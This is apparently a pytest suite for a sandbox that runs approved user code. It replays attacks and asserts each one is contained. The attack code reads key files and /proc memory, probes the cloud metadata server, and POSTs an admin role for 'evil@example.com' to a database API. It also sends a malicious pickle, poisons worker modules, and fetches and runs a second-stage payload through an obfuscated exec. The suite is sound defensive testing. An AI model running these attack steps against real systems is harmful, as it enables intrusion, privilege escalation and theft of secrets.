"""The twin sandbox as a boundary (functions/twins/sandbox.py): approved request code is hostile, and each
attack an approved request made on the stack before the jail is replayed here, over the twins
function, and shown contained. The code reports what it could reach as its result (which the
requester receives), so each test reads the attack's own findings; where the attack's effect
would show outside (a file, a process, a request to a server, a user record), the test looks
there too.

The last tests run the same attacks with the twins function as an unprivileged user, whose
jail is built differently (a user namespace instead of a change of uid)."""

from __future__ import annotations

import http.server
import json
import os
import shutil
import site
import subprocess
import sys
import tempfile
import textwrap
import threading
import time

import pytest

from functions.twins import sandbox
from tests.conftest import OWNER, ROOT
from tests.utils import assert_error

READER = "reader@example.com"
MANAGER = "manager@example.com"
SECRET_SETTING = "s3cr3t-private-setting"
ECHO = "def echo(context, n: int = 1):\n    return {'side': context.settings.get('side'), 'n': n}\n"


@pytest.fixture
def lab(api):
    api.add_dataset("lab")
    api.add_user(READER, datasets={"lab": ["clio_read"]})
    api.add_user(MANAGER, datasets={"lab": ["dataset_admin"]})
    body = {
        "path": "lab.echo",
        "description": "echo",
        "dataset": "lab",
        "mock": {"code": ECHO, "settings": {"side": "mock"}},
        "private": {"code": ECHO, "settings": {"side": "private", "key": SECRET_SETTING}},
    }
    r = api.post("/twins", user=OWNER, json=body)
    assert r.status_code == 201, r.get_data(as_text=True)


def run_request(api, body: str, timeout_s: float = 20) -> tuple[int, dict]:
    """Submit `def attack(echo): <body>`, approve it as the dataset's manager, run it once as
    the reader: the answer's status and body."""
    code = "def attack(echo):\n" + textwrap.indent(textwrap.dedent(body), "    ")
    r = api.post(
        "/twins/requests",
        user=READER,
        json={"endpoints": {"echo": "lab.echo"}, "code": code, "timeout_s": timeout_s},
    )
    assert r.status_code == 201, r.get_data(as_text=True)
    request_id = r.get_json()["id"]
    r = api.post(f"/twins/requests/{request_id}/approve", user=MANAGER, json={"reason": "ok"})
    assert r.status_code == 200, r.get_data(as_text=True)
    r = api.post(f"/twins/requests/{request_id}/run", user=READER)
    return r.status_code, {**r.get_json(), "id": request_id}


def findings(api, body: str) -> dict:
    status, answer = run_request(api, body)
    assert status == 200, answer
    return answer["result"]


def owner_view(api, request_id: str) -> dict:
    return api.get(f"/twins/requests/{request_id}", user=MANAGER).get_json()


def test_the_environment_is_empty(api, lab):
    env = findings(api, "import os\nreturn dict(os.environ)\n")
    assert set(env) <= {"HOME", "TMPDIR", "LANG", "PATH"}, env
    assert not any("EMULATOR" in k or "KEY" in k or "OWNER" in k for k in env)
    assert os.environ["FIRESTORE_EMULATOR_HOST"] not in json.dumps(env)


def test_no_backend_no_metadata_server_no_internet(api, lab, test_env):
    host, port = test_env["FIRESTORE_EMULATOR_HOST"].split(":")
    storage = test_env["STORAGE_EMULATOR_HOST"].removeprefix("http://")
    targets = [
        (host, int(port)),
        (storage.split(":")[0], int(storage.split(":")[1])),
        ("169.254.169.254", 80),
    ]
    tried = findings(
        api,
        f"""
        import socket, urllib.request
        out = {{}}
        for host, port in {targets!r} + [("8.8.8.8", 53)]:
            try:
                socket.create_connection((host, port), timeout=2).close()
                out[f"{{host}}:{{port}}"] = "connected"
            except OSError as exc:
                out[f"{{host}}:{{port}}"] = exc.errno
        # Make someone admin by writing users/<email> on the emulator's REST API, as the attack did.
        try:
            urllib.request.urlopen(urllib.request.Request(
                "http://{host}:{port}/v1/projects/gatehouse-test/databases/(default)/documents/users?documentId=evil%40example.com",
                data=b'{{"fields": {{"global_roles": {{"arrayValue": {{"values": [{{"stringValue": "admin"}}]}}}}}}}}',
                method="POST"), timeout=2)
            out["write"] = "written"
        except OSError as exc:
            out["write"] = str(exc)
        return out
        """,
    )
    assert "connected" not in tried.values() and tried["write"] != "written", tried
    assert all(v == 101 for k, v in tried.items() if k != "write"), tried  # ENETUNREACH: no interface
    assert api.get("/users/evil@example.com", user=OWNER).status_code == 404


def test_no_file_of_the_stack(api, lab, test_env):
    paths = [
        test_env["GATEHOUSE_DEV_KEY_FILE"],
        test_env["SIGNER_KEY_FILE"],
        os.path.join(ROOT, "common", "identity", "auth.py"),
        os.path.join(ROOT, "README.md"),
        os.path.join(ROOT, ".dev", "dev-issuer.pem"),
    ]
    seen = findings(
        api,
        f"""
        import os
        out = {{"root": sorted(os.listdir("/")), "cwd": os.getcwd()}}
        for path in {paths!r}:
            try:
                with open(path, "rb") as f:
                    out[path] = f.read(20).decode("latin-1")
            except OSError as exc:
                out[path] = exc.strerror
        try:
            open("/usr/evil", "w")
            out["write"] = "written"
        except OSError as exc:
            out["write"] = exc.strerror
        return out
        """,
    )
    for path in paths:
        assert seen[path] == "No such file or directory", (path, seen[path])
    assert seen["write"] == "Read-only file system"
    # The jail's root holds the system's directories and the first part of the paths bound for
    # Python (its prefix and the installed packages: /work in a clone under /work, /check elsewhere).
    bound = {path.split(os.sep)[1] for path in (sys.base_prefix, *site.getsitepackages())}
    assert (
        set(seen["root"])
        <= {"bin", "dev", "etc", "lib", "lib64", "proc", "root", "sbin", "tmp", "usr"} | bound
    )
    assert seen["cwd"] == "/"


def test_no_way_into_the_parent(api, lab):
    """The twins function here is this test process: its pid, its memory, its /proc."""
    parent = os.getpid()
    seen = findings(
        api,
        f"""
        import os
        out = {{"ppid": os.getppid(), "pids": sorted(p for p in os.listdir("/proc") if p.isdigit())}}
        for path in ("/proc/{parent}/mem", "/proc/{parent}/environ", "/proc/1/root/proc/{parent}/mem"):
            try:
                with open(path, "rb") as f:
                    out[path] = len(f.read(10))
            except OSError as exc:
                out[path] = exc.strerror
        return out
        """,
    )
    assert seen["ppid"] == 0 and seen["pids"] == ["1"], seen
    assert all(seen[k] == "No such file or directory" for k in seen if k.startswith("/proc")), seen


def test_a_pickle_on_the_channel_runs_nothing_in_the_parent(api, lab, tmp_path):
    marker = tmp_path / "pickled"
    status, answer = run_request(
        api,
        f"""
        import os, pickle, stat, struct

        class Evil:
            def __reduce__(self):
                return (open, ({str(marker)!r}, "w"))

        payload = pickle.dumps(("done", Evil()))
        for fd in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, struct.pack("!i", len(payload)) + payload)
            except OSError:
                pass
        import time
        time.sleep(5)
        return "not reached"
        """,
    )
    assert status == 500 and answer["details"]["reason"] == "error", answer
    assert not marker.exists()
    run = owner_view(api, answer["id"])["run"]
    assert run["error_type"] == "ProtocolError", run


def test_garbage_on_the_channel_kills_the_worker_and_fails_the_run(api, lab):
    status, answer = run_request(
        api,
        """
        import os, stat, struct
        for fd in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, struct.pack(">I", 1 << 31) + b"x" * 100)  # over the frame cap
            except OSError:
                pass
        import time
        time.sleep(5)
        """,
    )
    assert status == 500 and answer["details"]["reason"] == "error", answer


def test_request_code_cannot_poison_the_workers_that_serve_others(api, lab):
    """The attack patched its worker, which then served the owner's private calls and the
    researcher's mock calls. Request code now has a process of its own, used once; and an
    endpoint's workers serve only their own side."""
    assert (
        api.post("/twins/lab.echo/private", user=MANAGER, json={"n": 1}).get_json()["result"]["side"]
        == "private"
    )
    run_request(  # it may well break its own worker: that is its business
        api,
        """
        import sys, builtins, json
        for name, module in list(sys.modules.items()):
            for attr in ("execute", "_execute", "serve", "_serialized", "dumps"):
                if hasattr(module, attr):
                    try:
                        setattr(module, attr, lambda *a, **k: {"status": "ok", "result": "POISONED"})
                    except Exception:
                        pass
        builtins.print = None
        return "patched"
        """,
    )
    assert api.post("/twins/lab.echo/mock", user=READER, json={"n": 2}).get_json()["result"] == {
        "side": "mock",
        "n": 2,
    }
    private = api.post("/twins/lab.echo/private", user=MANAGER, json={"n": 3}).get_json()["result"]
    assert private == {"side": "private", "n": 3}


def test_a_side_s_workers_never_serve_another_side(api, lab):
    """Both sides run the same code that keeps the first settings it sees in a global: a
    worker shared by the sides would hand the private settings to a mock caller."""
    sticky = (
        "def sticky(context):\n"
        "    import sys\n"
        "    kept = sys.modules.setdefault('kept', type(sys)('kept'))\n"
        "    if not hasattr(kept, 'settings'):\n"
        "        kept.settings = dict(context.settings)\n"
        "    return kept.settings\n"
    )
    body = {
        "path": "lab.sticky",
        "description": "sticky",
        "dataset": "lab",
        "mock": {"code": sticky, "settings": {"side": "mock"}},
        "private": {"code": sticky, "settings": {"side": "private", "key": SECRET_SETTING}},
    }
    assert api.post("/twins", user=OWNER, json=body).status_code == 201
    assert (
        api.post("/twins/lab.sticky/private", user=OWNER, json={}).get_json()["result"]["key"]
        == SECRET_SETTING
    )
    for _ in range(3):
        r = api.post("/twins/lab.sticky/mock", user=READER, json={})
        assert r.status_code == 200 and r.get_json()["result"] == {"side": "mock"}, r.get_json()
        assert SECRET_SETTING not in r.get_data(as_text=True)


def test_limits_are_set_from_outside_and_cannot_be_lifted(api, lab):
    seen = findings(
        api,
        """
        import resource
        out = {}
        for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_FSIZE"):
            limit = getattr(resource, name)
            soft, hard = resource.getrlimit(limit)
            out[name] = [soft, hard]
            try:
                resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                out[name + " lifted"] = True
            except (ValueError, OSError):
                out[name + " lifted"] = False
        try:
            block = bytearray(1536 << 20)
            out["1.5 GB"] = len(block)
        except MemoryError:
            out["1.5 GB"] = "refused"
        try:
            with open("/tmp/big", "wb") as f:
                f.write(b"x" * (32 << 20))
            out["/tmp"] = "written"
        except OSError as exc:
            out["/tmp"] = exc.strerror
        return out
        """,
    )
    for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_FSIZE"):
        soft, hard = seen[name]
        assert soft == hard and hard != -1, (name, seen[name])
        assert seen[name + " lifted"] is False
    assert seen["1.5 GB"] == "refused"
    assert seen["/tmp"] in ("File too large", "No space left on device")


def _sleepers(tag: str) -> list[str]:
    out = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if tag in line and "ps -eo" not in line]


@pytest.mark.parametrize("ending", ["returns", "times out"])
def test_nothing_it_started_survives_the_run(api, lab, ending):
    tag = "4321.5" if ending == "returns" else "4321.25"
    body = f"""
        import os, subprocess, time
        subprocess.Popen(["sleep", "{tag}"], start_new_session=True)
        if os.fork() == 0:  # a daemon of its own, detached twice
            os.setsid()
            if os.fork() == 0:
                os.execv("/usr/bin/sleep", ["sleep", "{tag}"])
            os._exit(0)
        time.sleep(0.3)
        {"return 'left them running'" if ending == "returns" else "while True: pass"}
        """
    if ending == "returns":
        findings(api, body)
    else:
        status, answer = run_request(api, body, timeout_s=2)
        assert status == 504, answer
    deadline = time.monotonic() + 5
    while _sleepers(tag) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _sleepers(tag) == []


def test_code_downloaded_after_the_approval_never_arrives(api, lab):
    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            body = b"def stage2(): return 'owned'"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        seen = findings(
            api,
            f"""
            import builtins, urllib.request
            run = getattr(builtins, "ex" + "ec")
            try:
                source = urllib.request.urlopen("http://127.0.0.1:{server.server_port}/stage2", timeout=2).read()
            except OSError as exc:
                return "download failed: " + str(exc)
            scope = {{}}
            run(source, scope)
            return scope["stage2"]()
            """,
        )
    finally:
        server.shutdown()
    assert seen.startswith("download failed") and hits == []


def test_the_endpoint_handles_still_work(api, lab):
    """What the code may do: call its endpoints, answered by the parent."""
    result = findings(api, "return [echo(n=5), echo.mock(n=6)]\n")
    assert result == [{"side": "private", "n": 5}, {"side": "mock", "n": 6}]


# -- failing closed ----------------------------------------------------------------------------


@pytest.fixture
def no_jail(monkeypatch, tmp_path):
    """A host without util-linux's unshare: the boundary is probed again and cannot be built."""
    sandbox.shutdown()
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setattr(sandbox, "_boundary", None)
    yield
    monkeypatch.undo()
    sandbox._boundary = None
    sandbox.shutdown()


def test_request_runs_answer_503_where_the_boundary_cannot_be_built(api, lab, no_jail):
    held = sandbox.boundary()
    assert not held.ok and "unshare" in held.reason
    status, answer = run_request(api, "return 1\n")
    assert status == 503 and answer["details"]["reason"] == "sandbox_unavailable", answer
    assert "unshare" in answer["message"]
    view = owner_view(api, answer["id"])
    assert view["status"] == "approved"  # the single run is not used up
    r = api.post(f"/twins/requests/{answer['id']}/run?async=1", user=READER)
    assert_error(r, 503, "unavailable")
    # Endpoint code (an admin's) still runs, without the jail.
    assert api.post("/twins/lab.echo/mock", user=READER, json={"n": 1}).status_code == 200


# -- the same attacks, with the twins function run by an unprivileged user -----------------------

UNPRIVILEGED_UID = 4242

DRIVER = """
import json, os, socket, sys
sys.path.insert(0, sys.argv[1])
from functions.twins import sandbox

class State:
    def get(self, key, default=None): return default

secret, port = sys.argv[2], int(sys.argv[3])
held = sandbox.boundary()
code = '''
def attack():
    import os, resource, socket, subprocess
    out = {"env": sorted(os.environ), "uid": os.getuid(),
           "pids": sorted(p for p in os.listdir("/proc") if p.isdigit())}
    for path in (SECRET, CODE):
        try:
            out[path] = open(path).read()
        except OSError as exc:
            out[path] = exc.strerror
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=1)
        out["network"] = "open"
    except OSError as exc:
        out["network"] = exc.errno
    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    try:
        resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
        out["lifted"] = True
    except (ValueError, OSError):
        out["lifted"] = False
    out["as"] = [soft, hard]
    with open("/proc/self/status") as f:
        out["caps"] = [l.split()[1] for l in f if l.startswith(("CapEff", "CapPrm"))]
    try:
        with open("/usr/evil", "w"):
            pass
        out["write"] = "written"
    except OSError as exc:
        out["write"] = exc.strerror
    try:
        out["umount"] = subprocess.run(["umount", "-l", "/usr"], capture_output=True).returncode
    except OSError as exc:
        out["umount"] = exc.strerror
    subprocess.Popen(["sleep", "4321.75"], start_new_session=True)
    return out
'''.replace("SECRET", repr(secret)).replace("CODE", repr(sandbox.__file__)).replace("PORT", str(port))
outcome = sandbox.run(sandbox.Program(code), {}, user={}, state=State(), timeout_s=20, handles=[])
print(json.dumps({"boundary": [held.ok, held.mechanism, held.reason], "uid": os.getuid(),
                  "status": outcome.status, "result": outcome.result, "message": outcome.message}))
sandbox.shutdown()
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="switching to another user needs root")
def test_as_an_unprivileged_user_the_same_attacks_are_contained(tmp_path):
    """The function runs as uid 4242 (no capabilities): its jail is a user namespace mapped
    to that uid. Its own 0600 files must stay out of reach although the code runs as that uid
    outside, and the rest holds as for root."""
    home = tempfile.mkdtemp(prefix="gatehouse-unprivileged-")
    try:
        os.chmod(home, 0o755)
        shutil.copytree(os.path.join(ROOT, "common"), os.path.join(home, "common"))
        twins = os.path.join("functions", "twins")
        shutil.copytree(os.path.join(ROOT, twins), os.path.join(home, twins))
        secret = os.path.join(home, "function-key.pem")
        with open(secret, "w") as f:
            f.write("PRIVATE KEY OF THE FUNCTION")
        os.chmod(secret, 0o600)
        for dirpath, _, files in os.walk(home):
            os.chown(dirpath, UNPRIVILEGED_UID, UNPRIVILEGED_UID)
            for name in files:
                os.chown(os.path.join(dirpath, name), UNPRIVILEGED_UID, UNPRIVILEGED_UID)
        listener = __import__("socket").socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        python = os.path.realpath(sys.executable)
        # The interpreter may live under root's 0700 home (pyenv): show the user only that
        # interpreter, in a mount namespace of this test's, as a host would install it.
        prefix = sys.base_prefix
        script = (
            "set -e; "
            f"mkdir -p /tmp/gh-py-{os.getpid()} && mount --bind {prefix} /tmp/gh-py-{os.getpid()}; "
            "mount -t tmpfs -o mode=0755 none /root; "
            f"mkdir -p {prefix} && mount --bind /tmp/gh-py-{os.getpid()} {prefix}; "
            f"exec setpriv --reuid={UNPRIVILEGED_UID} --regid={UNPRIVILEGED_UID} --clear-groups "
            f'{python} -I -c "$0" {home} {secret} {listener.getsockname()[1]}'
        )
        needs_remap = prefix.startswith("/root/")
        command = (
            ["unshare", "--mount", "sh", "-c", script, DRIVER]
            if needs_remap
            else [
                "setpriv",
                f"--reuid={UNPRIVILEGED_UID}",
                f"--regid={UNPRIVILEGED_UID}",
                "--clear-groups",
                python,
                "-I",
                "-c",
                DRIVER,
                home,
                secret,
                str(listener.getsockname()[1]),
            ]
        )
        done = subprocess.run(
            command, capture_output=True, text=True, timeout=60, env={"PATH": "/usr/bin:/bin"}
        )
        listener.close()
        assert done.returncode == 0, done.stderr
        report = json.loads(done.stdout.strip().splitlines()[-1])
        assert report["uid"] == UNPRIVILEGED_UID
        assert report["boundary"][:2] == [True, "user namespace"], report
        assert report["status"] == "ok", report
        seen = report["result"]
        assert set(seen["env"]) <= {"HOME", "TMPDIR", "LANG", "PATH"}
        assert seen[secret] == "No such file or directory"
        assert seen[os.path.join(home, twins, "sandbox.py")] == "No such file or directory"
        assert seen["network"] == 101
        assert seen["pids"] == ["1"] or seen["pids"] == ["1", "2"]  # itself (and the sleeper it starts next)
        assert seen["lifted"] is False and seen["as"][0] == seen["as"][1] != -1
        assert all(int(mask, 16) == 0 for mask in seen["caps"]), seen["caps"]
        assert seen["write"] == "Read-only file system"
        assert seen["umount"] != 0  # no capability left to undo the jail's mounts
        deadline = time.monotonic() + 5
        while _sleepers("4321.75") and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _sleepers("4321.75") == []
    finally:
        shutil.rmtree(home, ignore_errors=True)


def test_the_jail_root_is_built_where_nothing_bound_into_it_lives():
    """A checkout (its virtualenv) under /tmp must stay visible in the jail: the root's tmpfs
    covers a directory that holds none of the directories bound into it."""
    root = sandbox._root_for(
        ["/usr", "/etc", "/dev", "/tmp/ci-1/gatehouse/.venv/lib/python3.11/site-packages"]
    )
    assert root != "/tmp" and os.path.isdir(root)
    assert (
        sandbox._root_for(["/usr", "/root/.pyenv/versions/3.11.7"]) == "/mnt"
        or os.path.isdir("/mnt") is False
    )
